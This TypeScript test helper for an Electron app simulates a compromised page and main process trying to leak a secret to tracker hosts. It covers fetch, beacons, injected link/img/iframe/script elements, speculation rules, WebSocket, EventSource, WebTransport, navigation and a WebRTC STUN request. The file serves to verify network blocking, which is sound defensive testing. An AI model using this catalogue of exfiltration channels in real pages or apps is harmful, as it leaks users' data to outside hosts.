import type { Page } from 'playwright';
import type { MainProcess } from '../main-process.ts';
import { trackers } from './tracking-html.ts';

/** What a page that fell into wrong hands would try, the sanitiser being behind it. */
export async function attackFromPage(page: Page, said: string): Promise<void> {
  await page.evaluate(
    async ([origins, secret]) => {
      for (const origin of origins) {
        const to = `${origin}/${encodeURIComponent(secret)}`;
        await fetch(to).catch(() => undefined);
        navigator.sendBeacon(to, secret);
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon'])
          add('link', { rel, href: to });
        add('img', { src: to });
        add('iframe', { src: to });
        add('script', { src: to });
        add('video', { src: to, poster: to });
        add('object', { data: to });
        const rules = { prerender: [{ source: 'list', urls: [to] }] };
        add('script', { type: 'speculationrules' }).textContent = JSON.stringify(rules);
        // Each may throw at once: that is as good as never connecting.
        attempt(() => new WebSocket(to.replace('http', 'ws')));
        attempt(() => new EventSource(to));
        attempt(() => new WebTransport(to.replace('http:', 'https:')));
        attempt(() => location.assign(to));
        attempt(() => window.open(to));
      }
      const iceServers = [{ urls: 'stun:198.51.100.77:3478' }];
      const connection = new RTCPeerConnection({ iceServers });
      connection.createDataChannel('data');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1500));
      connection.close();

      function add(name: string, attributes: Record<string, string>): HTMLElement {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.body.append(element);
        return element;
      }
      function attempt(way: () => unknown): void {
        try {
          way();
        } catch {
          // Refused.
        }
      }
    },
    [trackers, said] as const,
  );
}

/** Chromium's own network, asked by the main process: no page's policy stands before it. */
export async function attackFromSessions(main: MainProcess): Promise<void> {
  await main.evaluate(async ({ session, net }, origins) => {
    const sessions = [session.defaultSession, session.fromPartition('another')];
    for (const origin of origins) {
      for (const each of sessions) {
        await each.fetch(origin).catch(() => undefined);
        await each.resolveHost('tracker.example').catch(() => undefined);
        each.preconnect({ url: origin });
      }
      await net.fetch(origin).catch(() => undefined);
    }
  }, trackers);
}
